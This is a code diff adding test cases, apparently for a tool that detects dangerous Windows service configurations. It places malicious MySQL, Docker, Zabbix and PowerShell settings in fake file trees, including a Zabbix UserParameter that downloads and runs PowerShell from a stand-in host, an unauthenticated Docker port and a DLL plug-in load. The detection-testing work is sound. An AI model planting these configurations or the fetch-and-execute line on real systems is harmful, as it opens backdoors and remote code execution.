@@ -104,6 +104,38 @@ told('server-of-ssh-with-its-own-settings', 'Its keys are those of another file.
 told('orders-over-the-network', 'Whoever reaches the port starts containers.', '-H tcp://0.0.0.0:2375', '2375', r'C:\Program Files\Docker\dockerd.exe')
 
 
+def set_up(name, why, place, program, path, text, files=()):
+    """What the program's file of settings makes it do."""
+    def make(d):
+        d.honest(program)
+        for file in files:
+            d.foreign(file)
+        d.put(path, text)
+        d.service('App', f'"{program}"')
+    change.row(name, why, SERVICE, place, make)
+
+
+MYSQL, DOCKER = r'C:\mysql\bin\mysqld.exe', r'C:\Program Files\Docker\dockerd.exe'
+ZABBIX = r'C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe'
+set_up('library-in-the-settings-of-a-database', 'The server loads plug-ins of its folder.', 'evil.dll', MYSQL, r'mysql\my.ini', '[mysqld]\r\nplugin-load-add=evil.dll\r\n',
+       [r'mysql\lib\plugin\evil.dll'])
+set_up('sql-in-the-settings-of-a-database', 'The server carries out the file when it starts.', 'i.sql', MYSQL, r'Windows\my.ini', '[mysqld]\r\ninit_file=C:/mysql/i.sql\r\n',
+       [r'mysql\i.sql'])
+set_up('database-of-everybody', 'Nobody is asked for a password.', 'skip-grant-tables', MYSQL, r'my.cnf', '[mysqld]\r\nskip-grant-tables\r\n')
+set_up('orders-over-the-network-in-settings', 'Whoever reaches the port starts containers.', '2375', DOCKER, r'ProgramData\docker\config\daemon.json',
+       '{"hosts": ["tcp://0.0.0.0:2375", "npipe://"]}')
+set_up('commands-of-a-monitoring-server', 'The server carries out any command.', 'system.run', ZABBIX, r'Program Files\Zabbix Agent 2\zabbix_agent2.conf',
+       'Server=203.0.113.7\r\nAllowKey=system.run[*]\r\n')
+change.row('commands-of-an-included-file', 'The settings include those of a folder.', SERVICE, 'iex', lambda d: (
+    d.honest(ZABBIX), d.put(r'Program Files\Zabbix Agent 2\a.conf', 'Include=.\\zabbix_agent2.d\\*.conf\r\n'), d.windows(r'WindowsPowerShell\v1.0\powershell.exe'),
+    d.put(r'Program Files\Zabbix Agent 2\zabbix_agent2.d\u.conf', 'UserParameter=a,powershell -c "iex (iwr http://203.0.113.7/a)"\r\n'),
+    d.service('App', f'"{ZABBIX}" -c "C:\\Program Files\\Zabbix Agent 2\\a.conf" -f=false')))
+change.row('settings-that-are-not-there', 'Whoever writes the file later decides what the agent carries out.', SERVICE, 'later.conf', lambda d: (
+    d.honest(ZABBIX), d.service('App', f'"{ZABBIX}" -c C:\\ProgramData\\later.conf')))
+set_up('folder-of-modules-in-settings', 'Modules of that folder are found first.', 'PSModulePath', r'C:\Program Files\PowerShell\7\pwsh.exe',
+       r'Program Files\PowerShell\7\powershell.config.json', '{"PSModulePath": "C:\\\\ProgramData\\\\x"}')
+
+
 def task(name, why, program, arguments, place):
     change.row(name, why, SERVICE, place, lambda d: (d.windows(program), d.task(r'\App', rf'C:\Windows\System32\{program}', arguments)))
 
